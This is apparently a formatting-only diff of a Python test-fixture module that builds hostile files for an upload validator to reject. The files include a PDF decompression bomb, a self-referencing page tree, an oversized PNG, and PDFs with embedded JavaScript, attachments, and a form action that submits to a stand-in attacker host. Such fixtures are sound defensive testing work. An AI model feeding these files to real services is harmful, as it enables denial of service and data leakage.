@@ -1,4 +1,5 @@
 """Files that nobody should send, made on the spot: name → (bytes, the code that refuses them)."""
+
 import io
 import struct
 import zlib
@@ -38,7 +39,9 @@ def _open_action(action: Dictionary):
 
 def _annotation(subtype: str, **more: object):
     def change(pdf: pikepdf.Pdf) -> None:
-        pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 10, 10], **more)])
+        pdf.pages[0].Annots = Array(
+            [Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 10, 10], **more)]
+        )
 
     return change
 
@@ -72,17 +75,33 @@ def _bomb() -> bytes:
     packer = zlib.compressobj(9)
     packed = b"".join(packer.compress(b" " * (1 << 24)) for _block in range(72)) + packer.flush()
     head = b"%PDF-1.5\n"
-    body = b"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + str(len(packed)).encode() + b">>\nstream\n" + packed + b"\nendstream\nendobj\n"
+    body = (
+        b"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
+        + str(len(packed)).encode()
+        + b">>\nstream\n"
+        + packed
+        + b"\nendstream\nendobj\n"
+    )
     rows = struct.pack(">BIB", 0, 0, 0) + struct.pack(">BIB", 1, len(head), 0) + struct.pack(">BIB", 2, 1, 0)
     table = zlib.compress(rows)
     at = len(head) + len(body)
-    cross = b"3 0 obj\n<</Type/XRef/Size 3/W[1 4 1]/Root 2 0 R/Filter/FlateDecode/Length " + str(len(table)).encode() + b">>\nstream\n" + table + b"\nendstream\nendobj\n"
+    cross = (
+        b"3 0 obj\n<</Type/XRef/Size 3/W[1 4 1]/Root 2 0 R/Filter/FlateDecode/Length "
+        + str(len(table)).encode()
+        + b">>\nstream\n"
+        + table
+        + b"\nendstream\nendobj\n"
+    )
     return head + body + cross + b"startxref\n" + str(at).encode() + b"\n%%EOF\n"
 
 
 def _endless_pages() -> bytes:
     """A tree of pages that contains itself."""
-    return b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Count 1000000/Kids[2 0 R 2 0 R]>>\nendobj\ntrailer\n<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF\n"
+    return (
+        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
+        b"2 0 obj\n<</Type/Pages/Count 1000000/Kids[2 0 R 2 0 R]>>\nendobj\n"
+        b"trailer\n<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF\n"
+    )
 
 
 def picture(kind: str = "JPEG", size: tuple[int, int] = (400, 300)) -> bytes:
@@ -100,7 +119,12 @@ def _wide_png() -> bytes:
     def chunk(name: bytes, data: bytes) -> bytes:
         return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
 
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0))
+        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
+        + chunk(b"IEND", b"")
+    )
 
 
 SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
@@ -124,7 +148,10 @@ HOSTILE: dict[str, tuple[bytes, str]] = {
     "script by name": (_pdf_with(_named_script), "file_active"),
     "script on a page": (_pdf_with(_page_script), "file_active"),
     "script behind a link": (_pdf_with(_annotation("Link", A=SCRIPT)), "file_active"),
-    "form that leaves": (_pdf_with(_annotation("Link", A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))), "file_active"),
+    "form that leaves": (
+        _pdf_with(_annotation("Link", A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
+        "file_active",
+    ),
     "file attached": (_pdf_with(_attached), "file_active"),
     "file pinned on a page": (_pdf_with(_annotation("FileAttachment")), "file_active"),
     "rich media": (_pdf_with(_annotation("RichMedia")), "file_active"),
